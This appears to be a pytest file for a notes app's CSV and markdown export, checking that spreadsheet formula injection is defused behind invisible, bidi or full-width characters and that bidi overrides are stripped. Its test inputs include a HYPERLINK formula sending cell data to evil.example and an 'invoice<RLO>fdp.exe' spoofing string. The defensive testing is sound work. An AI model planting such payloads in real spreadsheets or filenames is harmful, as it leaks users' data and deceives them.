"""CSV cells a spreadsheet could run as a formula are defused whatever comes in front of the
formula sign (bidi marks, a BOM, spaces) and whatever form the sign takes (full-width, small);
--bom writes UTF-8 with a byte order mark for spreadsheet programs that guess encodings."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from reader.core.config import DEFAULT_VERDICTS
from reader.core.notes.export import CSV_COLUMNS, csv_report, formula_risk
from reader.core.text.sanitize import one_line
from tests.conftest import ARABIC_SEED, CliRunner, write_config
from tests.test_export_injection import one_of_each

SIGNS = ["=", "+", "-", "@", "\t", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"]
IN_FRONT = [
    "",
    " ",
    "   ",
    "\u00a0",
    "\u200e",
    "\u200f",
    "\u061c",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\ufeff",
    "\u200b",
    "\u200f \u2067",
]
RUN_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
COLUMNS = {"claim": "claim", "note": "note", "title": "article_title", "author": "author"}


def cell(field: str, value: str) -> str:
    rows = list(csv.reader(io.StringIO(csv_report(one_of_each(field, value), DEFAULT_VERDICTS))))
    return dict(zip(CSV_COLUMNS, rows[1], strict=True))[COLUMNS[field]]


@pytest.mark.parametrize("front", IN_FRONT)
@pytest.mark.parametrize("sign", SIGNS)
def test_a_formula_sign_after_invisible_or_blank_characters_is_defused(
    sign: str, front: str
) -> None:
    value = f'{front}{sign}HYPERLINK("https://evil.example/?"&A1)'
    for field in COLUMNS:
        # A one-line field shows a bidi embedding, override or isolate as � (it would turn
        # the printed row around: then no formula is left); the note keeps them as written.
        shown = value if field == "note" else one_line(value)
        got = cell(field, value)
        assert got == ("'" + shown if formula_risk(shown) else shown), (field, repr(value))
        if shown == value:  # nothing drawn: the formula is there, and defused
            assert got == "'" + value, (field, repr(value))
        if field != "note":
            assert not set(got) & set(RUN_BIDI), (field, repr(got))


@pytest.mark.parametrize(
    "value", ["1-2", "a=b", "x@y.example", "المسماري = 3", "\u200fالمسماري", "2020. +"]
)
def test_ordinary_text_is_left_as_written(value: str) -> None:
    for field in COLUMNS:
        assert cell(field, value) == value


def test_bom_on_request(tmp_path: Path, corpus_dir: Path, run_cli: CliRunner) -> None:
    write_config(tmp_path)
    assert (
        run_cli("notes", "add", ARABIC_SEED, "--quote", "المسماري", "--occurrence", "1").returncode
        == 0
    )
    plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"
    assert run_cli("notes", "export", "--format", "csv", "--out", str(plain)).returncode == 0
    assert (
        run_cli("notes", "export", "--format", "csv", "--bom", "--out", str(marked)).returncode == 0
    )
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    rows = list(csv.reader(io.StringIO(marked.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0][0] == "article_id" and rows[1][8] == "المسماري"
    refused = run_cli("notes", "export", "--format", "markdown", "--bom")
    assert refused.returncode == 2 and refused.stderr == "reader: --bom is for --format csv\n"


def test_a_bidi_override_in_a_one_line_field_cannot_turn_a_printed_row_around() -> None:
    """`reader notes export --format markdown|csv` printed a title "invoice<RLO>fdp.exe" raw
    (found by attacking the app): on a terminal the rest of the line read backwards."""
    from reader.core.notes.export import markdown_report

    value = "invoice\u202efdp.exe \u2066x\u2069"
    for field in ("title", "claim", "author"):
        groups = one_of_each(field, value)
        for report in (
            csv_report(groups, DEFAULT_VERDICTS),
            markdown_report(groups, DEFAULT_VERDICTS),
        ):
            assert not set(report) & set(RUN_BIDI), (field, report)
            assert "invoice\ufffdfdp.exe" in report.replace("\\", ""), (field, report)
